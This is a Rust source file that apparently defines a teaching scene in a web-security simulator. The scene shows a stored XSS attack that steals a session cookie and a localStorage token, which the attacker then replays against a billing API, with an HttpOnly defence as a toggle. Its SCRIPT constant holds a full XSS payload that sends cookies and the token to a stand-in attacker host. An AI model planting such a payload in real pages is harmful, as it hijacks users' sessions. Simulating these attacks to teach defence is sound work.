use crate::cast::browser::{Browser, Mode, Trip};
use crate::cast::{self, Api, App, Auth, MALLORY, MallorySite, WEB_APP, WebApp};
use crate::scenes::scene::{ABSOLUTE, Group, IDLE, LEEWAY, Scene, TOKEN_LIFE};
use crate::sim::{Answer, BROWSER, Server, Trace, World};
use crate::validate::{jwt, session};
use crate::wire::{Request, Url};
use crate::words::scene::xss_localstorage as words;

const DEFENCE: &str = "defence.http-only";

/// Mallory's comment. It reads what a script of the page can read, and sends it to her.
const SCRIPT: &str = "<script>fetch('https://mallory.example.org/collect',{method:'POST',\
    body:new URLSearchParams({cookie:document.cookie,token:localStorage.token||''})})</script>";

pub const SCENE: Scene = Scene {
    id: "attacks/xss-localstorage",
    group: Group::Attacks,
    steps: 12,
    off: &[DEFENCE],
    stopped_by: Some(DEFENCE),
    switches: &[IDLE, ABSOLUTE, LEEWAY, TOKEN_LIFE],
    boxes: &[session::check_ids, jwt::check_ids],
    defences: &[DEFENCE],
    doors: &[
        "attacks/csrf",
        "foundations/sessions-or-tokens",
        "workbench",
    ],
    play,
    cast: || {
        vec![
            cast::mallory(words::mallory_role()),
            cast::adas_browser(),
            cast::web_app(),
            cast::billing_api(),
        ]
    },
};

fn play(mut world: World) -> Trace {
    let idle_s = world.setting(IDLE.name, IDLE.default);
    let absolute_s = world.setting(ABSOLUTE.name, ABSOLUTE.default);
    let leeway_s = world.setting(LEEWAY.name, LEEWAY.default);
    let token_life_s = world.setting(TOKEN_LIFE.name, TOKEN_LIFE.default);
    let mut auth = Auth::new(world.moment().random, token_life_s);
    let mut billing = Api::trusting(&auth.jwks(), leeway_s);
    let mut app = WebApp::alone(idle_s, absolute_s);
    let mut mallory = MallorySite::default();
    let mut ada = Browser::default();
    let [login, account, comments, transfer] =
        ["/login", "/account", "/comments", "/transfer"].map(WebApp::url);
    let wants_token = !world.is_on(DEFENCE);

    world.step_after(0);
    let comment = Request::new("POST", WebApp::HOST, "/comments").form(&[("text", SCRIPT)]);
    let _posted = world.send(MALLORY, &mut app, &comment);
    world.say(words::question());

    // Ada signs in.
    world.step_after(600);
    app.give_page_token(&token_of(&mut auth, &mut world));
    let trip = Trip::form(&login, &login);
    let form = ada
        .request(&trip, world.now_s())
        .form(&WebApp::login_fields());
    let mut signed_in = world.send(BROWSER, &mut app, &form);
    world.state(WEB_APP, words::app_holds_token());
    world.say(words::login());
    world.step_after(1);
    world.reply(&mut signed_in);
    ada.keep(&trip, &signed_in.response, world.now_s());
    world.state(BROWSER, words::browser_keeps());
    world.say(words::logged_in());

    // Her page gets what it needs: a token for itself, or data from its own server.
    world.step_after(1);
    let wanted = WebApp::url(if wants_token { "/token" } else { "/data" });
    let ask = ada.request(&Trip::fetch(&account, "GET", &wanted), world.now_s());
    let mut got = world.send(BROWSER, &mut app, &ask);
    world.say(words::page_asks(&got, wants_token));
    world.step_after(1);
    world.reply(&mut got);
    let token = got.response.member("access_token").unwrap_or_default();
    if token.is_empty() {
        world.state(BROWSER, words::nothing_in_storage());
    } else {
        ada.store(&account, "token", &token);
        world.state(BROWSER, words::in_storage());
    }
    world.say(words::page_got(&token));

    // The comments, and a script among them.
    world.step_after(30);
    let read = ada.request(&Trip::link(&account, &comments), world.now_s());
    let mut page = world.send(BROWSER, &mut app, &read);
    world.say(words::comments(&page));
    world.step_after(1);
    world.reply(&mut page);
    let ran = page.response.body.contains(SCRIPT);
    world.say(if ran {
        words::comments_shown()
    } else {
        words::no_comments(&page)
    });

    world.step_after(1);
    if ran {
        let [cookies, token] = steal(&mut world, &ada, &comments);
        let _sent = send_away(
            &mut world,
            &ada,
            &mut mallory,
            &comments,
            [&cookies, &token],
        );
        world.say(words::script_sends(&token));
    } else {
        world.say(words::script_never_ran());
    }

    // Mallory, at home.
    world.step_after(60);
    let stolen = mallory.collected("token");
    let mut attack = world.send(MALLORY, &mut billing, &call_with(&stolen));
    world.say(words::attack(&attack, &stolen));
    world.step_after(1);
    world.reply(&mut attack);
    world.say(words::attack_answered(&attack, &stolen));

    // What no HttpOnly stops: the script, in Ada's page, with Ada's cookie.
    world.step_after(1);
    let inside = ada
        .request(&Trip::fetch(&comments, "POST", &transfer), world.now_s())
        .form(&MallorySite::form_fields());
    let mut acted = ran.then(|| world.send(BROWSER, &mut app, &inside));
    world.say(words::from_inside(acted.as_ref()));

    world.step_after(1);
    if let Some(acted) = &mut acted {
        world.reply(acted);
    }
    let lesson = words::carry_away(attack.let_in(), world.is_on(DEFENCE));
    world.say(lesson.clone());
    let stopped_by = match decided_by(&attack) {
        Some(_) if world.is_on(DEFENCE) => Some(DEFENCE),
        // Where she has no token, an earlier box had refused the page.
        Some(check) if stolen.is_empty() => {
            Some(decided_by(&got).or(decided_by(&page)).unwrap_or(check))
        }
        other => other,
    };
    world.end_attack_by(SCENE.id, stopped_by, lesson)
}

/// Mallory's call, with the token where she has one.
fn call_with(token: &str) -> Request {
    let call = Request::new("GET", Api::HOST, "/v1/charges");
    if token.is_empty() {
        return call;
    }
    call.bearer(token)
}

fn decided_by(answer: &Answer) -> Option<&'static str> {
    answer.report.as_ref().and_then(|report| report.decided_by)
}

/// The application's own token for billing-api, which it gets behind the scene.
fn token_of(auth: &mut Auth, world: &mut World) -> String {
    let mut client = App::default();
    let code = auth.give_code(&mut client, "charges:read", &mut world.moment());
    let issued = auth.receive(&client.exchange(&code), &mut world.moment());
    client.keep(&issued.response);
    client.access_token
}

/// What a script of this page can read: cookies and localStorage.
fn steal(world: &mut World, ada: &Browser, page: &Url) -> [String; 2] {
    let cookies = ada.document_cookie(page, world.now_s());
    let token = ada.stored(page, "token").unwrap_or_default().to_owned();
    world.state(BROWSER, words::script_read(&cookies, &token));
    [cookies, token]
}

fn send_away(
    world: &mut World,
    ada: &Browser,
    mallory: &mut MallorySite,
    page: &Url,
    [cookies, token]: [&str; 2],
) -> Answer {
    let collect = MallorySite::url(MallorySite::HOST, "/collect");
    let trip = Trip {
        mode: Mode::Fetch { include: false },
        ..Trip::fetch(page, "POST", &collect)
    };
    let request = ada
        .request(&trip, world.now_s())
        .form(&[("cookie", cookies), ("token", token)]);
    world.send(BROWSER, mallory, &request)
}
